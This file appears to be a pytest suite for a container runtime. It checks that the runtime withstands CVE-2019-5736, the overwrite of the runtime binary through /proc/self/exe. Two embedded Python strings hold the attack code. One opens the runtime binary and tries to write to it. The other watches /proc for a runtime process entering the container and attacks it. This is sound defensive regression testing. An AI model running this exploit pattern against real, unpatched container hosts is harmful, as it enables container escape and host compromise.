"""CVE-2019-5736: the runtime's own binary is overwritten through /proc/self/exe, from a container that runs it or lies in wait for it."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.support.launch import (
    Launch,
    in_launch,
    line,
    python_mounts,
)
from tests.support.trace import Trace

pytestmark = pytest.mark.root

PYTHON = ["/usr/bin/python3", "-I", "-c"]
PTRACE = {kind: ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE"] for kind in ("bounding", "effective", "permitted")}

OVERWRITE = """
import os, sys, time, fcntl, mmap
def attempt(what, act):
    try:
        act()
        print(what, "DONE")
    except OSError as error:
        print(what, error.strerror)
def attack(path):
    held = os.open(path, os.O_RDONLY)
    print(os.readlink(path))
    if len(sys.argv) > 1:
        print("found", flush=True)
        while os.path.exists(path) and "memfd" in os.readlink(path):
            time.sleep(0.001)
    again = f"/proc/self/fd/{held}"
    attempt("write", lambda: os.write(os.open(again, os.O_WRONLY), b"#!/bin/sh"))
    attempt("truncate", lambda: os.close(os.open(again, os.O_WRONLY | os.O_TRUNC)))
    attempt("unseal", lambda: fcntl.fcntl(os.open(again, os.O_RDWR), fcntl.F_ADD_SEALS, 0))
    attempt("map", lambda: mmap.mmap(os.open(again, os.O_RDWR), 4096))
"""


def unharmed(launch: Launch) -> bytes:
    """The beginning of what keeper and launcher run."""
    return b"".join(Path(f"/proc/{launch.pid_of(name)}/exe").read_bytes() for name in ("keeper", "launcher"))


def test_cve_2019_5736_an_image_whose_command_is_proc_self_exe(tmp_path: Path) -> None:
    """It gets an interpreter in memory, which is sealed; the node's own file is not in reach at all."""

    async def body(launch: Launch) -> None:
        before = unharmed(launch)
        code = OVERWRITE + "\nattack('/proc/self/exe')"
        result = await launch.run(["/proc/self/exe", "-I", "-c", code], mounts=python_mounts())
        lines = result.out.splitlines()
        assert lines[0] == "/memfd:tare (deleted)", result
        assert len(lines) == 5 and not any(entry.endswith("DONE") for entry in lines), lines
        assert unharmed(launch) == before
        assert (await launch.run(["true"])).code == 0

    in_launch(tmp_path, body)


HUNT = """
import glob
seen = set()
print("hunting", flush=True)
while True:
    for path in glob.glob("/proc/[0-9]*/exe"):
        try:
            target = os.readlink(path)
        except OSError as error:
            if path not in seen and os.path.exists(path[:-4]):
                seen.add(path)
                print("refused", error.strerror, flush=True)
            continue
        if "memfd" in target:
            attack(path)
            print("end", flush=True)
            time.sleep(1000)
"""


@pytest.mark.parametrize("may_trace", [False, True])
def test_cve_2019_5736_a_container_that_lies_in_wait_for_an_exec(tmp_path: Path, may_trace: bool) -> None:
    """The process that is about to become an exec is in the container's PID namespace for a moment: here strace holds it there."""

    async def body(launch: Launch) -> None:
        before = unharmed(launch)
        capabilities: dict[str, Any] = {"capabilities": PTRACE} if may_trace else {}
        hunter = [*PYTHON, OVERWRITE + HUNT, "hunter"]
        box = await launch.start(hunter, mounts=python_mounts(), **capabilities)
        assert await line(box) == "hunting"
        hold = ("-e", "trace=execve", "-e", "inject=execve:delay_enter=500000")
        async with Trace(launch.pid_of("launcher"), tmp_path / "trace", *hold):
            assert (await launch.exec(box, ["true"])).code == 0
        if may_trace:
            said = await line(box, count=7)
            assert said.startswith("/memfd:tare (deleted)\nfound\n") and "DONE" not in said and said.endswith("end"), (
                said
            )
        else:
            assert await line(box) == "refused Permission denied"
        assert unharmed(launch) == before
        assert (await launch.run(["true"])).code == 0

    in_launch(tmp_path, body)
